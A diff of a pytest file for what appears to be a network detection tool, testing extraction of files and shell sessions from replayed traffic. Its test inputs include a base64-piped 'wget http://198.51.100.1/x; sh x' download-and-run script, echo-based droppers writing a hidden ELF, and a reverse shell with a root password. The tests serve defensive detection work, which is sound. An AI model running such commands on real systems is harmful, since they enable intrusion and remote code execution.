@@ -11,7 +11,8 @@ import tarfile
 
 import pytest
 
-from test_shell import of, replay, talk
+from fishbowl import bodies, replay_packets
+from packets import talk
 
 ELF = b'\x7fELF\x01\x01\x01\0' + bytes(8) + random.Random(1).randbytes(3000)
 
@@ -55,7 +56,7 @@ RAW = {
 @pytest.mark.parametrize('kind', RAW)
 @pytest.mark.parametrize('side', [0, 1])
 def test_raw_file(tmp_path, kind, side):
-    records = replay(tmp_path, talk([(side, piece) for piece in pieces(RAW[kind])], 40000, 4444))
+    records = replay_packets(tmp_path, talk([(side, piece) for piece in pieces(RAW[kind])], 40000, 4444))
     assert files(records) == [whole('', RAW[kind])]
     [file] = [r for r in records if r['event_type'] == 'fileinfo']
     assert file['raw_file'] == {'type': kind}
@@ -64,14 +65,14 @@ def test_raw_file(tmp_path, kind, side):
 
 
 def test_raw_file_behind_a_line(tmp_path):
-    records = replay(tmp_path, talk([(0, b'kit.elf 3016\n' + ELF[:500]), (0, ELF[500:])], 40000, 9999))
+    records = replay_packets(tmp_path, talk([(0, b'kit.elf 3016\n' + ELF[:500]), (0, ELF[500:])], 40000, 9999))
     assert files(records) == [whole('', ELF)]
-    assert of(records, 'fileinfo') and [r['raw_file'] for r in records if r['event_type'] == 'fileinfo'] == [
+    assert bodies(records, 'fileinfo') and [r['raw_file'] for r in records if r['event_type'] == 'fileinfo'] == [
         {'type': 'elf', 'header': 'kit.elf 3016'}]
 
 
 def test_both_send_files(tmp_path):
-    records = replay(tmp_path, talk([(0, ELF), (1, tar())], 40000, 9999))
+    records = replay_packets(tmp_path, talk([(0, ELF), (1, tar())], 40000, 9999))
     assert sorted(files(records)) == sorted([whole('', ELF), whole('', tar())])
 
 
@@ -79,7 +80,7 @@ def test_both_send_files(tmp_path):
     b'MZ' + bytes(300), b'\x7fELF\x09' + bytes(40), b'#!comment\n', b'\x1f\x8b\x08\xff' + bytes(40), b'BM' + b'\1' * 60,
     b'hello\n#!/bin/sh\n', b'\x00\x7fELF\x01\x01\x01' + bytes(40)])
 def test_no_raw_file(tmp_path, data):
-    assert files(replay(tmp_path, talk([(0, data), (1, b'\1\2\3')], 40000, 4444))) == []
+    assert files(replay_packets(tmp_path, talk([(0, data), (1, b'\1\2\3')], 40000, 4444))) == []
 
 
 # ---- files typed into shells ----
@@ -141,37 +142,37 @@ PASTED = {
 @pytest.mark.parametrize('way', PASTED)
 def test_pasted(tmp_path, way):
     lines, name = PASTED[way]
-    assert files(replay(tmp_path, talk(typed(*lines), 40000, 23))) == [whole(name, ELF)]
+    assert files(replay_packets(tmp_path, talk(typed(*lines), 40000, 23))) == [whole(name, ELF)]
 
 
 def test_pasted_in_two_steps(tmp_path):
     lines = [b'echo %s >> k.b64' % piece for piece in B64] + [b'base64 -d k.b64 > k', b'rm k.b64']
-    have = files(replay(tmp_path, talk(typed(*lines), 40000, 23)))
+    have = files(replay_packets(tmp_path, talk(typed(*lines), 40000, 23)))
     assert sorted(have) == sorted([whole('k', ELF), whole('k.b64', b''.join(piece + b'\n' for piece in B64))])
 
 
 def test_pasted_into_a_shell(tmp_path):
     """No file is named: what is run is told."""
     script = b'#!/bin/sh\nwget http://198.51.100.1/x; sh x\n'
-    have = files(replay(tmp_path, talk(typed(b'echo ' + base64.b64encode(script) + b' | base64 -d | bash'), 40000, 23)))
+    have = files(replay_packets(tmp_path, talk(typed(b'echo ' + base64.b64encode(script) + b' | base64 -d | bash'), 40000, 23)))
     assert have == [whole('', script)]
 
 
 def test_script_in_a_here_document(tmp_path):
     script = b'#!/bin/sh\n\n\techo "a > b"\nexit\n'
     lines = [b'cat > /tmp/run.sh << "E"', *script.rstrip(b'\n').split(b'\n'), b'E', b'sh /tmp/run.sh']
-    assert files(replay(tmp_path, talk(typed(*lines), 40000, 23))) == [whole('/tmp/run.sh', script)]
+    assert files(replay_packets(tmp_path, talk(typed(*lines), 40000, 23))) == [whole('/tmp/run.sh', script)]
 
 
 def test_several_files(tmp_path):
     lines = [b'echo -ne "\\x41" > a; echo -n B > b', b'echo -n C >> a', b'echo new > b', b'echo x > /dev/null 2>&1', b'cat /x > y',
              b'wget http://h/z > z']
-    assert sorted(files(replay(tmp_path, talk(typed(*lines), 40000, 23)))) == sorted([
+    assert sorted(files(replay_packets(tmp_path, talk(typed(*lines), 40000, 23)))) == sorted([
         whole('a', b'AC'), whole('b', b'B'), whole('b', b'new\n')])
 
 
 def test_cut_here_document(tmp_path):
-    [(name, size, state, digest)] = files(replay(tmp_path, talk(typed(b'cat > k << EOF', b'one'), 40000, 23)))
+    [(name, size, state, digest)] = files(replay_packets(tmp_path, talk(typed(b'cat > k << EOF', b'one'), 40000, 23)))
     assert (name, size, state, digest) == ('k', 4, 'TRUNCATED', None)
 
 
@@ -202,26 +203,26 @@ SHELLS = {
 @pytest.mark.parametrize('kind', SHELLS)
 def test_raw_shell(tmp_path, kind):
     typist, steps, expected = SHELLS[kind]
-    records = replay(tmp_path, talk(steps, 40000, 31337))
+    records = replay_packets(tmp_path, talk(steps, 40000, 31337))
     more = {'reverse': True} if typist else {}
-    assert of(records, 'shell') == [{'command': command, 'output': output, **more} for command, output in expected]
+    assert bodies(records, 'shell') == [{'command': command, 'output': output, **more} for command, output in expected]
     assert {r['app_proto'] for r in records if r['event_type'] == 'flow'} == {'shell'}
 
 
 def test_password_in_a_raw_shell(tmp_path):
-    records = replay(tmp_path, talk([(0, b'bash: no job control in this shell\nwww@box:/$ '), (1, b'su\n'), (0, b'Password: '),
+    records = replay_packets(tmp_path, talk([(0, b'bash: no job control in this shell\nwww@box:/$ '), (1, b'su\n'), (0, b'Password: '),
                                      (1, b'toor\n'), (0, b'\nroot@box:/# ')], 40000, 31337))
     [login] = [r for r in records if r['event_type'] == 'login']
     assert login['login'] == {'method': 'password', 'password': 'toor', 'result': 'success'}
     assert login['src_ip'] == '192.0.2.10'
-    assert [line['command'] for line in of(records, 'shell')] == ['su']
+    assert [line['command'] for line in bodies(records, 'shell')] == ['su']
 
 
 def test_file_in_a_raw_shell(tmp_path):
     steps = [(0, b'sh-4.4$ '), (1, b'cd /tmp\n'), (0, b'sh-4.4$ ')]
     for line in loader(ELF, b'echo -ne "%s" > .d', b'echo -ne "%s" >> .d'):
         steps += [(1, line + b'\n'), (0, b'sh-4.4$ ')]
-    records = replay(tmp_path, talk(steps, 40000, 443))
+    records = replay_packets(tmp_path, talk(steps, 40000, 443))
     assert files(records) == [whole('.d', ELF)]
     assert [r['src_ip'] for r in records if r['event_type'] == 'fileinfo'] == ['192.0.2.10']
 
@@ -233,5 +234,5 @@ def test_file_in_a_raw_shell(tmp_path):
     [(0, b'/etc/passwd\r\n'), (1, b'root:x:0:0:root:/root:/bin/sh\n')],
     [(0, b'hello\n'), (1, b'hello\n'), (0, b'id?\n'), (1, b'id?\n')]])
 def test_no_raw_shell(tmp_path, steps):
-    records = replay(tmp_path, talk(steps, 40000, 7979))
-    assert of(records, 'shell') == []
+    records = replay_packets(tmp_path, talk(steps, 40000, 7979))
+    assert bodies(records, 'shell') == []
